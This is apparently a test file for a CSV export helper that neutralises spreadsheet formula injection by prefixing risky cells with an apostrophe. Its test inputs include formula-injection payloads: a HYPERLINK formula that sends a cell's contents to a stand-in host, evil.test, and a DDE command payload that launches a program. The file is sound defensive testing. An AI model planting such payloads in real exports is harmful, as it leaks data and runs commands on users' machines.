import { safeCell } from './csv';

describe('safeCell', () => {
  it('puts an apostrophe before text a spreadsheet would run: =, +, -, @, tab, carriage return', () => {
    for (const text of ['=1+1', '+1+HYPERLINK("http://evil.test?"&A1,"x")', "-1+1+cmd|' /C calc'!A0", '-cmd', '@SUM(A1)', '\t=1', '\r=1', '+', '-']) {
      expect(safeCell(text)).toBe(`'${text}`);
    }
  });

  it('leaves other text, numbers the export writes and empty values as they are', () => {
    expect(safeCell('Harborline Freight')).toBe('Harborline Freight');
    expect(safeCell('1+1')).toBe('1+1');
    expect(safeCell(-42)).toBe('-42');
    expect(safeCell(17)).toBe('17');
    expect(safeCell(true)).toBe('true');
    expect(safeCell(null)).toBe('');
    expect(safeCell(undefined)).toBe('');
  });
});
